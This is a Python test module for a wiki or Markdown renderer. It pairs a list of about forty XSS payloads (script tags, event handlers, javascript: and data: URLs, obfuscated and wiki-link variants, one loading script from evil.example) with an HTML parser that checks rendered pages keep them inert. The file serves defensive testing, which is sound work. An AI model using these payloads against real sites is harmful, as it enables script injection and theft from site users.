"""A corpus of XSS payloads and a checker that a rendered page keeps them inert."""
from html.parser import HTMLParser

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "[Klick](javascript:alert(1))",
    "[Klick](JaVaScRiPt:alert(1))",
    "[Klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[Klick](vbscript:msgbox(1))",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    "![Bild](javascript:alert(1))",
    "<https://example.org/\"onmouseover=\"alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))">x</p>',
    "<div onmouseover=alert(1)>x</div>",
    '<a href="/x" onfocus=alert(1) autofocus>x</a>',
    '<object data="javascript:alert(1)"></object>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<table><tr><td background="javascript:alert(1)" style="x:expression(alert(1))">t</td></tr></table>',
    "<a href='javascript:alert(1)'>[[Seite]]</a>",
    "[[<script>alert(1)</script>]]",
    '[[x" onmouseover="alert(1)]]',
    "[[Seite|<img src=x onerror=alert(1)>]]",
    "[[javascript:alert(1)]]",
    '<h2 id="main" onclick=alert(1)>Überschrift</h2>',
    "## <img src=x onerror=alert(1)> Kopf",
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '<a href="https://example.org" target="_blank" rel="opener">x</a>',
    "\x01<script>alert(1)</script>\x02",
]

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "style", "img", "meta", "base", "link",
                  "frame", "frameset", "applet", "audio", "video", "source", "template", "xmp", "noscript"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster", "srcdoc"}
SAFE_SCHEMES = ("http:", "https:", "mailto:")


# The site's own icons (heroicons, rendered by our templates): an <svg class="icon" aria-hidden="true">
# with these attributes only, holding only <path> drawings. Anything else named svg is a problem.
ICON_ATTRIBUTES = {"fill", "viewbox", "stroke-width", "stroke", "aria-hidden", "class"}
ICON_PATH_ATTRIBUTES = {"d", "stroke-linecap", "stroke-linejoin", "fill-rule", "clip-rule", "fill"}


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.in_icon = False

    def handle_endtag(self, tag):
        if tag == "svg":
            self.in_icon = False

    def _is_icon(self, tag, attrs):
        values = dict(attrs)
        if tag == "svg":
            return (set(values) <= ICON_ATTRIBUTES and values.get("aria-hidden") == "true"
                    and "icon" in (values.get("class") or "").split())
        return self.in_icon and tag == "path" and set(values) <= ICON_PATH_ATTRIBUTES

    def handle_starttag(self, tag, attrs):
        if self._is_icon(tag, attrs):
            self.in_icon = self.in_icon or tag == "svg"
            return
        if tag == "link" and dict(attrs).get("rel") == "stylesheet" and dict(attrs).get("href", "").startswith("/static/"):
            return  # the site's own style sheets in <head>
        if tag == "meta" and (set(dict(attrs)) == {"charset"} or dict(attrs).get("name") == "viewport"):
            return  # the site's own <meta charset> and viewport
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = "".join((value or "").split()).lower()
            if name.startswith("on") or name in {"autofocus", "srcdoc"}:
                self.problems.append(f"{tag}[{name}]")
            if name in URL_ATTRIBUTES and ":" in value.split("/")[0] and not value.startswith(SAFE_SCHEMES):
                self.problems.append(f"{tag}[{name}={value}]")
            if name == "style" and value and not all(
                rule.split(":")[0] == "text-align" for rule in value.rstrip(";").split(";")
            ):
                self.problems.append(f"{tag}[style={value}]")
            if name == "target" or (name == "rel" and "opener" in value.split()):
                self.problems.append(f"{tag}[{name}={value}]")


def problems_in(html):
    """What in ``html`` could run script or leave the page unasked; an empty list when it is inert."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.problems
